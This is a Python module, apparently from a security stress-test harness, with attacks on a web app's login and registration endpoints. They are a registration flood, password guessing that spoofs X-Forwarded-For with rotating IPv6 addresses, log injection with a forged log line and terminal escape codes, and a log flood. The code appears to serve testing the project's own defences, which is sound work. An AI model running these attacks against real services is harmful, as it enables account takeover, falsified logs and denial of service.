"""账号的门：灌注册、猜密码、让人把日志当真、让日志装不下。"""

from __future__ import annotations

import asyncio
from typing import Final

import msgspec

from ..assault import Assault
from .heads import UPGRADE

_LOGIN: Final = "/api/v1/auth/login"
_FORGED: Final = "x\n2026-01-01 00:00:00.000 | INFO | all is well \x1b[2J"


def _credentials(name: str, password: str) -> bytes:
    return msgspec.json.encode({"username": name, "password": password})


async def register_flood(assault: Assault) -> None:
    def body() -> bytes:
        return _credentials(f"siege-{next(assault.numbers)}", assault.random.randbytes(9).hex())

    await assault.keep_posting(130, "/api/v1/auth/register", body, token=False)


async def guess_over_ipv6(assault: Assault) -> None:
    """同一个 /64 里的地址换着用，猜一个人的密码。"""
    victim = assault.town.absent.name

    def body() -> bytes:
        return _credentials(victim, assault.random.randbytes(9).hex())

    def lines() -> tuple[str, ...]:
        return (f"X-Forwarded-For: 2001:db8:0:66::{assault.random.randrange(1, 2**16):x}",)

    await assault.keep_posting(16, _LOGIN, body, token=False, lines=lines)


async def forged_names(assault: Assault) -> None:
    """名字、路径里的换行与终端转义。"""
    path = "/\x1b[31mnothing/%0aforged"

    async def once() -> None:
        async with assault.call() as call:
            await call.send(assault.head("GET", path, token=False))
            await call.answer()

    names = assault.keep_posting(4, _LOGIN, lambda: _credentials(_FORGED, "guess"), token=False)
    await asyncio.gather(names, assault.forever(4, once))


async def log_flood(assault: Assault) -> None:
    """每一件都值得记一行的：错的密码、错的刷新令牌、别处的 Origin、排队后就走。"""

    def wrong() -> bytes:
        return _credentials(f"nobody-{next(assault.numbers)}", "wrong")

    async def foreign_origin() -> None:
        async with assault.call() as call:
            path = f"/ws/user/{assault.town.attacker_id}/messages"
            origin = "Origin: https://elsewhere.example"
            await call.send(assault.head("GET", path, *UPGRADE, origin))
            await call.answer()

    async def asked_and_gone() -> None:
        async with assault.call() as call:
            await call.send(assault.head("GET", "/api/v1/messages") * 50)

    refresh = msgspec.json.encode({"refresh_token": "x" * 43})
    await asyncio.gather(
        assault.keep_posting(8, _LOGIN, wrong, token=False),
        assault.keep_posting(4, "/api/v1/auth/refresh", lambda: refresh, token=False),
        assault.forever(8, foreign_origin),
        assault.forever(4, asked_and_gone),
    )
